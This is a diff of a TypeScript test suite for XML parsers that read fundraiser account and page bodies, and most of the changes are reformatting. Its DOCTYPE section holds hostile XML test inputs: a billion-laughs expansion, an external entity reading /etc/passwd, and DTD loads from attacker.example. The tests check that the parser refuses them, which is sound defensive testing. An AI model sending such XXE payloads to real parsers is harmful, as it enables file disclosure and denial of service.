@@ -3,11 +3,11 @@
  * read as the payload objects the validators take (contract section 8,
  * service-api.md "Formats" and the XML notes of each resource).
  */
-import { readFileSync, readdirSync } from 'node:fs';
+import { readdirSync, readFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { optionsFromContext } from '../src/cli/context.js';
-import { XmlBodyError, parseAccountXml, parsePageXml } from '../src/formats/xml.js';
+import { parseAccountXml, parsePageXml, XmlBodyError } from '../src/formats/xml.js';
 import { validateAccount, validatePage } from '../src/index.js';
 
 // ---------------------------------------------------------------------------
@@ -33,12 +33,20 @@ const account = (inner: string): string => `<fundraiserAccount>${inner}</fundrai
 const page = (inner: string): string => `<fundraiserpage>${inner}</fundraiserpage>`;
 
 /** Each text of a single-element account, read back. */
-const accountText = (field: string, xmlText: string): unknown => (parseAccountXml(account(`<${field}>${xmlText}</${field}>`)) as Record<string, unknown>)[field];
+const accountText = (field: string, xmlText: string): unknown =>
+  (parseAccountXml(account(`<${field}>${xmlText}</${field}>`)) as Record<string, unknown>)[field];
 
 // ---------------------------------------------------------------------------
 // A serializer written here, independent of the package: objects to the service's XML.
 
-const ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;', '\r': '&#13;' };
+const ESCAPES: Record<string, string> = {
+  '&': '&amp;',
+  '<': '&lt;',
+  '>': '&gt;',
+  '"': '&quot;',
+  "'": '&apos;',
+  '\r': '&#13;',
+};
 const escapeXml = (text: string): string => text.replace(/[&<>"'\r]/g, (character) => ESCAPES[character] ?? character);
 
 interface Layout {
@@ -95,36 +103,79 @@ function hasNumber(value: unknown): boolean {
 // Every documented field
 
 const ACCOUNT_FIELDS = [
-  'title', 'forename', 'surname', 'addressLine1', 'addressLine2', 'townCity', 'countyState', 'postcode', 'countryCode',
-  'preferredTelephone', 'emailAddress', 'personalUrl', 'termsAndConditionsAccepted', 'charityMarketingIndicator',
-  'allCharityMarketingIndicator', 'groupMarketingIndicator', 'serviceMarketingIndicator', 'dateOfBirth', 'charityResourceId',
+  'title',
+  'forename',
+  'surname',
+  'addressLine1',
+  'addressLine2',
+  'townCity',
+  'countyState',
+  'postcode',
+  'countryCode',
+  'preferredTelephone',
+  'emailAddress',
+  'personalUrl',
+  'termsAndConditionsAccepted',
+  'charityMarketingIndicator',
+  'allCharityMarketingIndicator',
+  'groupMarketingIndicator',
+  'serviceMarketingIndicator',
+  'dateOfBirth',
+  'charityResourceId',
 ] as const;
 const PAGE_FIELDS = [
-  'pageTitle', 'eventResourceId', 'fundraisingDate', 'teamPageIndicator', 'teamName', 'teamUrl', 'activityCode',
-  'activityDescription', 'charityContributionIndicator', 'postEventFundraisingInterval', 'fundraisingTarget',
+  'pageTitle',
+  'eventResourceId',
+  'fundraisingDate',
+  'teamPageIndicator',
+  'teamName',
+  'teamUrl',
+  'activityCode',
+  'activityDescription',
+  'charityContributionIndicator',
+  'postEventFundraisingInterval',
+  'fundraisingTarget',
 ] as const;
 
 describe('parseAccountXml: every documented account field', () => {
   it('reads each field of the account table under its own name, as the string it was', () => {
     const body = Object.fromEntries(ACCOUNT_FIELDS.map((field, index) => [field, `${field}-${index}`]));
-    const xml = account(`${ACCOUNT_FIELDS.map((field) => `<${field}>${field}-${ACCOUNT_FIELDS.indexOf(field)}</${field}>`).join('')}<fundraiserCustomCode>RUN-2026</fundraiserCustomCode>`);
+    const xml = account(
+      `${ACCOUNT_FIELDS.map((field) => `<${field}>${field}-${ACCOUNT_FIELDS.indexOf(field)}</${field}>`).join('')}<fundraiserCustomCode>RUN-2026</fundraiserCustomCode>`,
+    );
     expect(parseAccountXml(xml)).toStrictEqual({ ...body, fundraiserCustomCode: ['RUN-2026'] });
   });
 
-  it('keeps values exactly: leading zeros, digits, spaces at either end, an empty element as \'\'', () => {
+  it("keeps values exactly: leading zeros, digits, spaces at either end, an empty element as ''", () => {
     const xml = account(
-      '<preferredTelephone>007</preferredTelephone><dateOfBirth>01012000</dateOfBirth><surname>  Lovelace </surname>'
-      + '<forename></forename><postcode/><title>\tMs\n</title><countryCode>  </countryCode><termsAndConditionsAccepted>Y </termsAndConditionsAccepted>',
+      '<preferredTelephone>007</preferredTelephone><dateOfBirth>01012000</dateOfBirth><surname>  Lovelace </surname>' +
+        '<forename></forename><postcode/><title>\tMs\n</title><countryCode>  </countryCode><termsAndConditionsAccepted>Y </termsAndConditionsAccepted>',
     );
     expect(parseAccountXml(xml)).toStrictEqual({
-      preferredTelephone: '007', dateOfBirth: '01012000', surname: '  Lovelace ', forename: '', postcode: '', title: '\tMs\n',
-      countryCode: '  ', termsAndConditionsAccepted: 'Y ',
+      preferredTelephone: '007',
+      dateOfBirth: '01012000',
+      surname: '  Lovelace ',
+      forename: '',
+      postcode: '',
+      title: '\tMs\n',
+      countryCode: '  ',
+      termsAndConditionsAccepted: 'Y ',
     });
   });
 
   it('never turns text into numbers or booleans', () => {
-    const read = parseAccountXml(account('<preferredTelephone>1e3</preferredTelephone><dateOfBirth>20000101</dateOfBirth><surname>true</surname><forename>null</forename><title>0x10</title>'));
-    expect(read).toStrictEqual({ preferredTelephone: '1e3', dateOfBirth: '20000101', surname: 'true', forename: 'null', title: '0x10' });
+    const read = parseAccountXml(
+      account(
+        '<preferredTelephone>1e3</preferredTelephone><dateOfBirth>20000101</dateOfBirth><surname>true</surname><forename>null</forename><title>0x10</title>',
+      ),
+    );
+    expect(read).toStrictEqual({
+      preferredTelephone: '1e3',
+      dateOfBirth: '20000101',
+      surname: 'true',
+      forename: 'null',
+      title: '0x10',
+    });
   });
 
   it('reads an empty root as an object with no fields', () => {
@@ -133,13 +184,20 @@ describe('parseAccountXml: every documented account field', () => {
   });
 
   it('accepts an XML declaration, comments and CDATA', () => {
-    const xml = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- a request -->\n<fundraiserAccount><surname><![CDATA[O<Brien]]></surname><!-- c --><title>Mr</title></fundraiserAccount>\n';
+    const xml =
+      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- a request -->\n<fundraiserAccount><surname><![CDATA[O<Brien]]></surname><!-- c --><title>Mr</title></fundraiserAccount>\n';
     expect(parseAccountXml(xml)).toStrictEqual({ surname: 'O<Brien', title: 'Mr' });
   });
 
   it('accepts a byte-order mark before the root and before an XML declaration (a file read as UTF-8 keeps it)', () => {
-    expect(parseAccountXml('\uFEFF<fundraiserAccount><title>Mr</title></fundraiserAccount>')).toStrictEqual({ title: 'Mr' });
-    expect(parseAccountXml('\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<fundraiserAccount><title>Mr</title></fundraiserAccount>')).toStrictEqual({ title: 'Mr' });
+    expect(parseAccountXml('\uFEFF<fundraiserAccount><title>Mr</title></fundraiserAccount>')).toStrictEqual({
+      title: 'Mr',
+    });
+    expect(
+      parseAccountXml(
+        '\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<fundraiserAccount><title>Mr</title></fundraiserAccount>',
+      ),
+    ).toStrictEqual({ title: 'Mr' });
   });
 
   it('keeps the text of a CDATA section as written: no entity is decoded inside it', () => {
@@ -151,24 +209,34 @@ describe('parseAccountXml: every documented account field', () => {
 describe('parsePageXml: every documented page and split field', () => {
   it('reads each field of the page table, and each field of a split, as the string it was', () => {
     const fields = PAGE_FIELDS.map((field, index) => `<${field}>${field}-${index}</${field}>`).join('');
-    const xml = page(`${fields}<charitysplits><charityResourceId>c-1</charityResourceId><charitySplitPercent>060</charitySplitPercent><customCodes>SWIM</customCodes></charitysplits>`);
+    const xml = page(
+      `${fields}<charitysplits><charityResourceId>c-1</charityResourceId><charitySplitPercent>060</charitySplitPercent><customCodes>SWIM</customCodes></charitysplits>`,
+    );
     expect(parsePageXml(xml)).toStrictEqual({
       ...Object.fromEntries(PAGE_FIELDS.map((field, index) => [field, `${field}-${index}`])),
       charitySplits: [{ charityResourceId: 'c-1', charitySplitPercent: '060', customCodes: ['SWIM'] }],
     });
   });
 
-  it('keeps values exactly: \'039\', \'03\', spaces, empty elements', () => {
-    const xml = page('<activityCode>039</activityCode><postEventFundraisingInterval>03</postEventFundraisingInterval><pageTitle> My page </pageTitle><teamName></teamName><teamUrl/>'
-      + '<charitysplits><charitySplitPercent> 100</charitySplitPercent><charityResourceId></charityResourceId></charitysplits>');
+  it("keeps values exactly: '039', '03', spaces, empty elements", () => {
+    const xml = page(
+      '<activityCode>039</activityCode><postEventFundraisingInterval>03</postEventFundraisingInterval><pageTitle> My page </pageTitle><teamName></teamName><teamUrl/>' +
+        '<charitysplits><charitySplitPercent> 100</charitySplitPercent><charityResourceId></charityResourceId></charitysplits>',
+    );
     expect(parsePageXml(xml)).toStrictEqual({
-      activityCode: '039', postEventFundraisingInterval: '03', pageTitle: ' My page ', teamName: '', teamUrl: '',
+      activityCode: '039',
+      postEventFundraisingInterval: '03',
+      pageTitle: ' My page ',
+      teamName: '',
+      teamUrl: '',
       charitySplits: [{ charitySplitPercent: ' 100', charityResourceId: '' }],
     });
   });
 
   it('reads the splits only under the JSON key charitySplits (never charitysplits)', () => {
-    const read = parsePageXml(page('<charitysplits><charityResourceId>c</charityResourceId></charitysplits>')) as Record<string, unknown>;
+    const read = parsePageXml(
+      page('<charitysplits><charityResourceId>c</charityResourceId></charitysplits>'),
+    ) as Record<string, unknown>;
     expect(Object.keys(read)).toEqual(['charitySplits']);
     expect(Object.hasOwn(read, 'charitysplits')).toBe(false);
   });
@@ -190,24 +258,43 @@ describe('entities and character references', () => {
   });
 
   it('decodes references in repeating elements and inside splits too', () => {
-    expect(parseAccountXml(account('<fundraiserCustomCode>A&amp;B</fundraiserCustomCode><fundraiserCustomCode>&#x43;</fundraiserCustomCode>'))).toStrictEqual({ fundraiserCustomCode: ['A&B', 'C'] });
-    expect(parsePageXml(page('<charitysplits><charityResourceId>&lt;c&gt;</charityResourceId><customCodes>&quot;q&quot;</customCodes></charitysplits>'))).toStrictEqual({
+    expect(
+      parseAccountXml(
+        account(
+          '<fundraiserCustomCode>A&amp;B</fundraiserCustomCode><fundraiserCustomCode>&#x43;</fundraiserCustomCode>',
+        ),
+      ),
+    ).toStrictEqual({ fundraiserCustomCode: ['A&B', 'C'] });
+    expect(
+      parsePageXml(
+        page(
+          '<charitysplits><charityResourceId>&lt;c&gt;</charityResourceId><customCodes>&quot;q&quot;</customCodes></charitysplits>',
+        ),
+      ),
+    ).toStrictEqual({
       charitySplits: [{ charityResourceId: '<c>', customCodes: ['"q"'] }],
     });
   });
 
-  it.each(['&nbsp;', '&copy;', '&AMP;', '&Amp;', '&xxe;', '&eacute;'])('refuses the undeclared entity %s, naming it', (reference) => {
-    const error = refusal(() => parseAccountXml(account(`<surname>a${reference}b</surname>`)));
-    expect(error.message).toContain(reference);
-    refusal(() => parsePageXml(page(`<charitysplits><customCodes>${reference}</customCodes></charitysplits>`)));
-  });
+  it.each(['&nbsp;', '&copy;', '&AMP;', '&Amp;', '&xxe;', '&eacute;'])(
+    'refuses the undeclared entity %s, naming it',
+    (reference) => {
+      const error = refusal(() => parseAccountXml(account(`<surname>a${reference}b</surname>`)));
+      expect(error.message).toContain(reference);
+      refusal(() => parsePageXml(page(`<charitysplits><customCodes>${reference}</customCodes></charitysplits>`)));
+    },
+  );
 
-  it.each(['&#0;', '&#x0;', '&#xD800;', '&#xDFFF;', '&#x110000;', '&#1114112;', '&#99999999;', '&#x1234567;'])('refuses the reference %s, which is no character', (reference) => {
-    refusal(() => parseAccountXml(account(`<surname>a${reference}</surname>`)));
-  });
+  it.each(['&#0;', '&#x0;', '&#xD800;', '&#xDFFF;', '&#x110000;', '&#1114112;', '&#99999999;', '&#x1234567;'])(
+    'refuses the reference %s, which is no character',
+    (reference) => {
+      refusal(() => parseAccountXml(account(`<surname>a${reference}</surname>`)));
+    },
+  );
 
   it('refuses a bare ampersand and an unterminated reference', () => {
-    for (const text of ['a & b', 'a &amp b', 'AT&T']) refusal(() => parseAccountXml(account(`<surname>${text}</surname>`)));
+    for (const text of ['a & b', 'a &amp b', 'AT&T'])
+      refusal(() => parseAccountXml(account(`<surname>${text}</surname>`)));
   });
 });
 
@@ -216,40 +303,63 @@ describe('entities and character references', () => {
 
 describe('repeating elements', () => {
   it('reads one fundraiserCustomCode as an array of one, many as an array in document order', () => {
-    expect(parseAccountXml(account('<fundraiserCustomCode>A</fundraiserCustomCode>'))).toStrictEqual({ fundraiserCustomCode: ['A'] });
-    expect(parseAccountXml(account('<fundraiserCustomCode>A</fundraiserCustomCode><title>Mr</title><fundraiserCustomCode></fundraiserCustomCode><fundraiserCustomCode> C </fundraiserCustomCode>'))).toStrictEqual({
-      fundraiserCustomCode: ['A', '', ' C '], title: 'Mr',
+    expect(parseAccountXml(account('<fundraiserCustomCode>A</fundraiserCustomCode>'))).toStrictEqual({
+      fundraiserCustomCode: ['A'],
+    });
+    expect(
+      parseAccountXml(
+        account(
+          '<fundraiserCustomCode>A</fundraiserCustomCode><title>Mr</title><fundraiserCustomCode></fundraiserCustomCode><fundraiserCustomCode> C </fundraiserCustomCode>',
+        ),
+      ),
+    ).toStrictEqual({
+      fundraiserCustomCode: ['A', '', ' C '],
+      title: 'Mr',
     });
   });
 
   it('reads six custom codes as six entries (so 002.01.23 can fire on an XML body)', () => {
-    const xml = account(['1', '2', '3', '4', '5', '6'].map((code) => `<fundraiserCustomCode>${code}</fundraiserCustomCode>`).join(''));
+    const xml = account(
+      ['1', '2', '3', '4', '5', '6'].map((code) => `<fundraiserCustomCode>${code}</fundraiserCustomCode>`).join(''),
+    );
     const read = parseAccountXml(xml) as { fundraiserCustomCode: string[] };
     expect(read.fundraiserCustomCode).toEqual(['1', '2', '3', '4', '5', '6']);
     expect(validateAccount(read).codes).toContain('002.01.23');
   });
 
   it('reads one charitysplits element as an array of one split, many as many', () => {
-    const one = parsePageXml(page('<charitysplits><charityResourceId>c1</charityResourceId><charitySplitPercent>100</charitySplitPercent></charitysplits>'));
+    const one = parsePageXml(
+      page(
+        '<charitysplits><charityResourceId>c1</charityResourceId><charitySplitPercent>100</charitySplitPercent></charitysplits>',
+      ),
+    );
     expect(one).toStrictEqual({ charitySplits: [{ charityResourceId: 'c1', charitySplitPercent: '100' }] });
-    const three = parsePageXml(page(
-      '<charitysplits><charityResourceId>c1</charityResourceId><charitySplitPercent>50</charitySplitPercent></charitysplits>'
-      + '<pageTitle>T</pageTitle>'
-      + '<charitysplits><charityResourceId>c2</charityResourceId></charitysplits>'
-      + '<charitysplits><charitySplitPercent>50</charitySplitPercent></charitysplits>',
-    ));
+    const three = parsePageXml(
+      page(
+        '<charitysplits><charityResourceId>c1</charityResourceId><charitySplitPercent>50</charitySplitPercent></charitysplits>' +
+          '<pageTitle>T</pageTitle>' +
+          '<charitysplits><charityResourceId>c2</charityResourceId></charitysplits>' +
+          '<charitysplits><charitySplitPercent>50</charitySplitPercent></charitysplits>',
+      ),
+    );
     expect(three).toStrictEqual({
-      charitySplits: [{ charityResourceId: 'c1', charitySplitPercent: '50' }, { charityResourceId: 'c2' }, { charitySplitPercent: '50' }],
+      charitySplits: [
+        { charityResourceId: 'c1', charitySplitPercent: '50' },
+        { charityResourceId: 'c2' },
+        { charitySplitPercent: '50' },
+      ],
       pageTitle: 'T',
     });
   });
 
   it('reads one customCodes element of a split as an array of one, many as many, per split', () => {
-    const read = parsePageXml(page(
-      '<charitysplits><charityResourceId>c1</charityResourceId><customCodes>A</customCodes></charitysplits>'
-      + '<charitysplits><charityResourceId>c2</charityResourceId><customCodes>B</customCodes><customCodes></customCodes><customCodes>D</customCodes></charitysplits>'
-      + '<charitysplits><charityResourceId>c3</charityResourceId></charitysplits>',
-    ));
+    const read = parsePageXml(
+      page(
+        '<charitysplits><charityResourceId>c1</charityResourceId><customCodes>A</customCodes></charitysplits>' +
+          '<charitysplits><charityResourceId>c2</charityResourceId><customCodes>B</customCodes><customCodes></customCodes><customCodes>D</customCodes></charitysplits>' +
+          '<charitysplits><charityResourceId>c3</charityResourceId></charitysplits>',
+      ),
+    );
     expect(read).toStrictEqual({
       charitySplits: [
         { charityResourceId: 'c1', customCodes: ['A'] },
@@ -261,7 +371,9 @@ describe('repeating elements', () => {
 
   it('reads an empty <charitysplits/> (and <charitysplits></charitysplits>) as a split with no fields, {}', () => {
     expect(parsePageXml(page('<charitysplits/>'))).toStrictEqual({ charitySplits: [{}] });
-    expect(parsePageXml(page('<charitysplits></charitysplits><charitysplits/>'))).toStrictEqual({ charitySplits: [{}, {}] });
+    expect(parsePageXml(page('<charitysplits></charitysplits><charitysplits/>'))).toStrictEqual({
+      charitySplits: [{}, {}],
+    });
   });
 
   it('reads a charitysplits element holding only layout white space as {}, like an empty one', () => {
@@ -291,7 +403,8 @@ describe('repeating elements', () => {
       pageTitle: '  Spaced  ',
       charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', ' B '] }, { charitySplitPercent: '40' }],
     });
-    const accountXml = '<fundraiserAccount>\n  <title>Ms</title>\n  <fundraiserCustomCode>X</fundraiserCustomCode>\n  <fundraiserCustomCode>Y</fundraiserCustomCode>\n</fundraiserAccount>';
+    const accountXml =
+      '<fundraiserAccount>\n  <title>Ms</title>\n  <fundraiserCustomCode>X</fundraiserCustomCode>\n  <fundraiserCustomCode>Y</fundraiserCustomCode>\n</fundraiserAccount>';
     expect(parseAccountXml(accountXml)).toStrictEqual({ title: 'Ms', fundraiserCustomCode: ['X', 'Y'] });
   });
 
@@ -307,7 +420,9 @@ describe('repeating elements', () => {
 
 const examplesDir = new URL('../examples/', import.meta.url);
 const readJson = (name: string): unknown => JSON.parse(readFileSync(new URL(name, examplesDir), 'utf8'));
-const exampleNames = readdirSync(examplesDir).filter((name) => name.endsWith('.json')).sort();
+const exampleNames = readdirSync(examplesDir)
+  .filter((name) => name.endsWith('.json'))
+  .sort();
 const accountExamples = exampleNames.filter((name) => name.startsWith('account-'));
 const pageExamples = exampleNames.filter((name) => name.startsWith('page-'));
 const options = optionsFromContext(readJson('context.json'));
@@ -354,7 +469,11 @@ describe('the JSON examples, written as XML and read back', () => {
   });
 
   it('the serializer escapes & < > " \' so that every value survives', () => {
-    const body = { surname: `O'Brien & <Sons> "Ltd"`, forename: '&amp; &nbsp; ]]>', fundraiserCustomCode: ['<a>', '&#65;'] };
+    const body = {
+      surname: `O'Brien & <Sons> "Ltd"`,
+      forename: '&amp; &nbsp; ]]>',
+      fundraiserCustomCode: ['<a>', '&#65;'],
+    };
     const xml = accountToXml(body);
     expect(xml).not.toContain('<a>');
     expect(parseAccountXml(xml)).toStrictEqual(body);
@@ -364,8 +483,36 @@ describe('the JSON examples, written as XML and read back', () => {
 /** One character XML 1.0 can carry (no C0 controls but tab, LF, CR; no surrogate halves; no U+FFFE/U+FFFF). */
 const XML_CHAR = /^[\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]$/u;
 const xmlUnit = fc.oneof(
-  { weight: 1, arbitrary: fc.constantFrom('&', '<', '>', '"', "'", ';', '#', ' ', '\t', '\n', '\r', '&amp;', '&nbsp;', '&#65;', ']]>', '<!--', '😀', 'é', '0') },
-  { weight: 3, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((character) => XML_CHAR.test(character)) },
+  {
+    weight: 1,
+    arbitrary: fc.constantFrom(
+      '&',
+      '<',
+      '>',
+      '"',
+      "'",
+      ';',
+      '#',
+      ' ',
+      '\t',
+      '\n',
+      '\r',
+      '&amp;',
+      '&nbsp;',
+      '&#65;',
+      ']]>',
+      '<!--',
+      '😀',
+      'é',
+      '0',
+    ),
+  },
+  {
+    weight: 3,
+    arbitrary: fc
+      .string({ unit: 'binary', minLength: 1, maxLength: 1 })
+      .filter((character) => XML_CHAR.test(character)),
+  },
 );
 const xmlString = fc.string({ unit: xmlUnit, maxLength: 12 });
 
@@ -389,11 +536,18 @@ describe('round trip properties', () => {
 
   it('any page over the page fields, with splits and their custom codes, reads back deep-equal', () => {
     const split = fc.record(
-      { charityResourceId: xmlString, charitySplitPercent: xmlString, customCodes: fc.array(xmlString, { minLength: 1, maxLength: 6 }) },
+      {
+        charityResourceId: xmlString,
+        charitySplitPercent: xmlString,
+        customCodes: fc.array(xmlString, { minLength: 1, maxLength: 6 }),
+      },
       { requiredKeys: [], noNullPrototype: true },
     );
     const pageArbitrary = fc.record(
-      { ...Object.fromEntries(PAGE_FIELDS.map((field) => [field, xmlString])), charitySplits: fc.array(split, { minLength: 1, maxLength: 6 }) },
+      {
+        ...Object.fromEntries(PAGE_FIELDS.map((field) => [field, xmlString])),
+        charitySplits: fc.array(split, { minLength: 1, maxLength: 6 }),
+      },
       { requiredKeys: [], noNullPrototype: true },
     );
     fc.assert(
@@ -413,28 +567,44 @@ describe('DOCTYPE and entity declarations are refused before parsing', () => {
     '<?xml version="1.0"?>',
     '<!DOCTYPE lolz [',
     ' <!ENTITY lol "lol">',
-    ...Array.from({ length: 9 }, (_, level) => ` <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`),
+    ...Array.from(
+      { length: 9 },
+      (_, level) => ` <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`,
+    ),
     ']>',
     '<fundraiserAccount><surname>&lol9;</surname></fundraiserAccount>',
   ].join('\n');
 
   const documents: [string, string][] = [
-    ['an internal subset with an entity definition', '<!DOCTYPE fundraiserAccount [<!ENTITY name "Ada">]><fundraiserAccount><forename>&name;</forename></fundraiserAccount>'],
+    [
+      'an internal subset with an entity definition',
+      '<!DOCTYPE fundraiserAccount [<!ENTITY name "Ada">]><fundraiserAccount><forename>&name;</forename></fundraiserAccount>',
+    ],
     ['billion laughs', laughs],
-    ['an external SYSTEM entity', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><fundraiserAccount><surname>&xxe;</surname></fundraiserAccount>'],
+    [
+      'an external SYSTEM entity',
+      '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><fundraiserAccount><surname>&xxe;</surname></fundraiserAccount>',
+    ],
     ['an external DTD', '<!DOCTYPE fundraiserAccount SYSTEM "http://attacker.example/evil.dtd"><fundraiserAccount/>'],
-    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><fundraiserAccount/>'],
+    [
+      'a parameter entity',
+      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><fundraiserAccount/>',
+    ],
     ['a lower-case doctype', '<!doctype fundraiserAccount><fundraiserAccount/>'],
     ['a bare DOCTYPE', '<!DOCTYPE fundraiserAccount><fundraiserAccount><title>Mr</title></fundraiserAccount>'],
   ];
 
   it.each(documents)('%s: XmlBodyError naming DOCTYPE/ENTITY, for both readers', (_name, xml) => {
     expect(refusal(() => parseAccountXml(xml)).message).toMatch(/DOCTYPE|ENTITY/);
-    expect(refusal(() => parsePageXml(xml.replaceAll('fundraiserAccount', 'fundraiserpage'))).message).toMatch(/DOCTYPE|ENTITY/);
+    expect(refusal(() => parsePageXml(xml.replaceAll('fundraiserAccount', 'fundraiserpage'))).message).toMatch(
+      /DOCTYPE|ENTITY/,
+    );
   });
 
   it('refuses the declaration before parsing: a DOCTYPE in a document that is also malformed is reported as the DOCTYPE, not a line/column', () => {
-    const error = refusal(() => parseAccountXml('<!DOCTYPE a [<!ENTITY e "x">]><fundraiserAccount><title>&e;</fundraiserAccount>'));
+    const error = refusal(() =>
+      parseAccountXml('<!DOCTYPE a [<!ENTITY e "x">]><fundraiserAccount><title>&e;</fundraiserAccount>'),
+    );
     expect(error.message).toMatch(/DOCTYPE|ENTITY/);
     expect(error.message).not.toMatch(LINE_COLUMN);
   });
@@ -451,7 +621,10 @@ describe('malformed XML', () => {
     ['an unclosed tag', account('<title>Mr')],
     ['an unclosed root', '<fundraiserAccount><title>Mr</title>'],
     ['crossed tags', account('<title><surname>x</title></surname>')],
-    ['a mismatched close tag, on line 4', '<fundraiserAccount>\n<title>\nx</title>\n<surname>y</title></fundraiserAccount>'],
+    [
+      'a mismatched close tag, on line 4',
+      '<fundraiserAccount>\n<title>\nx</title>\n<surname>y</title></fundraiserAccount>',
+    ],
     ['text before the root', 'junk<fundraiserAccount/>'],
     ['an attribute without a value', '<fundraiserAccount a=b/>'],
     ['an attribute without quotes', account('<title lang=en>Mr</title>')],
@@ -465,13 +638,22 @@ describe('malformed XML', () => {
   });
 
   it('points at the line of the fault', () => {
-    expect(refusal(() => parseAccountXml('<fundraiserAccount>\n<title>\nx</title>\n<surname>y</title></fundraiserAccount>')).message).toMatch(/line 4, column \d+/);
+    expect(
+      refusal(() => parseAccountXml('<fundraiserAccount>\n<title>\nx</title>\n<surname>y</title></fundraiserAccount>'))
+        .message,
+    ).toMatch(/line 4, column \d+/);
   });
 
   const afterTheRoot: [string, string][] = [
     ['two roots of the same name', '<fundraiserAccount/><fundraiserAccount/>'],
-    ['two roots with fields', '<fundraiserAccount><title>Mr</title></fundraiserAccount><fundraiserAccount><title>Ms</title></fundraiserAccount>'],
-    ['a second, empty root after a full one', '<fundraiserAccount><title>Mr</title></fundraiserAccount><fundraiserAccount/>'],
+    [
+      'two roots with fields',
+      '<fundraiserAccount><title>Mr</title></fundraiserAccount><fundraiserAccount><title>Ms</title></fundraiserAccount>',
+    ],
+    [
+      'a second, empty root after a full one',
+      '<fundraiserAccount><title>Mr</title></fundraiserAccount><fundraiserAccount/>',
+    ],
     ['two different roots', '<fundraiserAccount/><fundraiserpage/>'],
     ['text after the root', '<fundraiserAccount><title>Mr</title></fundraiserAccount>junk'],
     ['an element after the root', '<fundraiserAccount><title>Mr</title></fundraiserAccount><title>Ms</title>'],
@@ -479,7 +661,9 @@ describe('malformed XML', () => {
 
   it.each(afterTheRoot)('%s: refused with XmlBodyError (a document has exactly one root)', (_name, xml) => {
     refusal(() => parseAccountXml(xml));
-    const swapped = xml.replace(/fundraiserAccount|fundraiserpage/g, (root) => (root === 'fundraiserAccount' ? 'fundraiserpage' : 'fundraiserAccount'));
+    const swapped = xml.replace(/fundraiserAccount|fundraiserpage/g, (root) =>
+      root === 'fundraiserAccount' ? 'fundraiserpage' : 'fundraiserAccount',
+    );
     refusal(() => parsePageXml(swapped));
   });
 
@@ -488,19 +672,34 @@ describe('malformed XML', () => {
     expect(refusal(() => parseAccountXml(xml)).message).toMatch(new RegExp(`${LINE_COLUMN.source}|root element`));
   });
 
-  it.each([['the empty string', ''], ['white space only', ' \n ']])('%s: XmlBodyError saying the document is empty', (_name, text) => {
+  it.each([
+    ['the empty string', ''],
+    ['white space only', ' \n '],
+  ])('%s: XmlBodyError saying the document is empty', (_name, text) => {
     expect(refusal(() => parseAccountXml(text)).message).toBe('the document is empty');
   });
 
-  it.each([['plain text', 'hello'], ['a JSON body', '{"title":"Mr"}']])('%s: XmlBodyError with a line and column that are numbers', (_name, text) => {
+  it.each([
+    ['plain text', 'hello'],
+    ['a JSON body', '{"title":"Mr"}'],
+  ])('%s: XmlBodyError with a line and column that are numbers', (_name, text) => {
     const error = refusal(() => parseAccountXml(text));
     expect(error.message).not.toContain('undefined');
     expect(error.message).toMatch(LINE_COLUMN);
   });
 
   it('every proper prefix of a well-formed body is refused (never a partial payload)', () => {
-    const xml = pageToXml({ pageTitle: 'Swim', charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', 'B'] }, { charitySplitPercent: '100' }] }, true);
-    expect(parsePageXml(xml)).toStrictEqual({ pageTitle: 'Swim', charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', 'B'] }, { charitySplitPercent: '100' }] });
+    const xml = pageToXml(
+      {
+        pageTitle: 'Swim',
+        charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', 'B'] }, { charitySplitPercent: '100' }],
+      },
+      true,
+    );
+    expect(parsePageXml(xml)).toStrictEqual({
+      pageTitle: 'Swim',
+      charitySplits: [{ charityResourceId: 'c1', customCodes: ['A', 'B'] }, { charitySplitPercent: '100' }],
+    });
     const end = xml.lastIndexOf('</fundraiserpage>');
     for (let length = 0; length <= end; length++) refusal(() => parsePageXml(xml.slice(0, length)));
   });
@@ -522,9 +721,12 @@ describe('the root element', () => {
     expect(refusal(() => parsePageXml(xml)).message).toContain('fundraiserpage');
   });
 
-  it.each(['<fundraiseraccount/>', '<FundraiserAccount/>', '<fundraiser/>', '<account><title>Mr</title></account>'])('refuses %s: the root name is case-sensitive and exact', (xml) => {
-    refusal(() => parseAccountXml(xml));
-  });
+  it.each(['<fundraiseraccount/>', '<FundraiserAccount/>', '<fundraiser/>', '<account><title>Mr</title></account>'])(
+    'refuses %s: the root name is case-sensitive and exact',
+    (xml) => {
+      refusal(() => parseAccountXml(xml));
+    },
+  );
 
   it.each(['<fundraiserPage/>', '<FundraiserPage/>', '<page/>'])('refuses %s as a page root', (xml) => {
     refusal(() => parsePageXml(xml));
@@ -556,25 +758,39 @@ describe('size and depth limits', () => {
     expect(refusal(() => parseAccountXml(ofLength(101), { maxLength: 100 })).message).toContain('100');
     refusal(() => parsePageXml('<fundraiserpage/>', { maxLength: 10 }));
     const big = ofLength(2_000_000);
-    expect((parseAccountXml(big, { maxLength: 2_000_000 }) as { surname: string }).surname).toHaveLength(2_000_000 - 58);
+    expect((parseAccountXml(big, { maxLength: 2_000_000 }) as { surname: string }).surname).toHaveLength(
+      2_000_000 - 58,
+    );
   });
 
-  it.each([Number.NaN, 'big' as unknown as number])('a nonsensical maxLength (%s) does not switch the limit off', (maxLength) => {
-    expect(() => parseAccountXml(ofLength(1_048_577), { maxLength })).toThrow();
-  });
+  it.each([Number.NaN, 'big' as unknown as number])(
